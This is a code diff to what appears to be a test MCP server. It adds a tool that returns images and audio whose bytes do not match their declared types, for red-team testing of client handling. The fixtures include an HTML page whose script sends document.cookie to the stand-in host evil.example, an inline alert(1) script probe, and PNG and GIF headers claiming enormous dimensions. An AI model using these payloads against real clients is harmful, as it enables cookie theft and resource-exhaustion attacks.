@@ -4,6 +4,7 @@ Every call is appended to the file named by FAULTY_CALL_LOG (one line per call) 
 many times the upstream really ran a tool.
 """
 
+import base64
 import json
 import os
 import sys
@@ -13,6 +14,7 @@ import anyio
 from mcp.server.mcpserver import MCPServer
 from mcp.server.mcpserver.exceptions import ToolError
 from mcp_types import (
+    AudioContent,
     BlobResourceContents,
     CallToolResult,
     EmbeddedResource,
@@ -239,7 +241,60 @@ def images() -> list[ImageContent | EmbeddedResource]:
         ),
         EmbeddedResource(
             type="resource",
-            resource=BlobResourceContents(uri="https://docs.example.com/logo.png", mime_type="image/png", blob="iVBO"),
+            resource=BlobResourceContents(
+                uri="https://docs.example.com/logo.png", mime_type="image/png", blob="iVBORw0KGgo="
+            ),
+        ),
+    ]
+
+
+# Media whose bytes are not of their declared type (an HTML page, an SVG document, bytes that are no base64, another
+# raster type, a header claiming 10^10 pixels), beside media that are what they say, one of them base64 broken into
+# lines (redteam48).
+def _b64(data: bytes) -> str:
+    return base64.b64encode(data).decode()
+
+
+PAGE = b"<html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>"
+PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + (1).to_bytes(4, "big") * 2
+PNG_BOMB = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + (100_000).to_bytes(4, "big") * 2  # 10^10 pixels, 24 bytes
+GIF_BOMB = b"GIF89a" + (65_535).to_bytes(2, "little") * 2
+WAV = b"RIFF\x24\x00\x00\x00WAVEfmt "
+
+
+@server.tool(annotations=READ_ONLY)
+def mismatched_media() -> list[ImageContent | AudioContent | EmbeddedResource | ResourceLink]:
+    """Return images and audio whose bytes are HTML, SVG or no base64 under raster and audio types, and real ones."""
+    _log("mismatched_media")
+    blob = BlobResourceContents
+    return [
+        ImageContent(type="image", data=_b64(PAGE), mime_type="image/png"),
+        ImageContent(type="image", data=SVG_B64, mime_type="image/gif"),
+        ImageContent(type="image", data="<script>alert(1)</script>", mime_type="image/png"),
+        ImageContent(type="image", data=_b64(PNG), mime_type="image/jpeg"),
+        ImageContent(type="image", data=_b64(PNG), mime_type="image/png"),
+        ImageContent(type="image", data=_b64(PNG_BOMB), mime_type="image/png"),
+        ImageContent(type="image", data=_b64(GIF_BOMB), mime_type="image/gif"),
+        ImageContent(type="image", data=base64.encodebytes(b"GIF89a" + bytes(120)).decode(), mime_type="image/gif"),
+        AudioContent(type="audio", data=_b64(PAGE), mime_type="audio/wav"),
+        AudioContent(type="audio", data=_b64(PAGE), mime_type="text/html"),
+        AudioContent(type="audio", data=_b64(WAV), mime_type="audio/wav"),
+        AudioContent(type="audio", data=_b64(b"ID3\x04\x00"), mime_type="audio/mpeg"),
+        EmbeddedResource(
+            type="resource", resource=blob(uri="https://cdn.example.com/a.png", mime_type="image/png", blob=_b64(PAGE))
+        ),
+        EmbeddedResource(
+            type="resource", resource=blob(uri="https://cdn.example.com/a.ogg", mime_type="audio/ogg", blob=_b64(PAGE))
+        ),
+        EmbeddedResource(
+            type="resource",
+            resource=blob(uri="https://cdn.example.com/b.ogg", mime_type="audio/ogg", blob=_b64(b"OggS\x00")),
+        ),
+        ResourceLink(
+            type="resource_link",
+            name="guide",
+            uri="https://docs.example.com/guide",
+            icons=[Icon(src=f"data:image/png;base64,{_b64(PAGE)}"), Icon(src=f"data:image/png;base64,{_b64(PNG)}")],
         ),
     ]
 
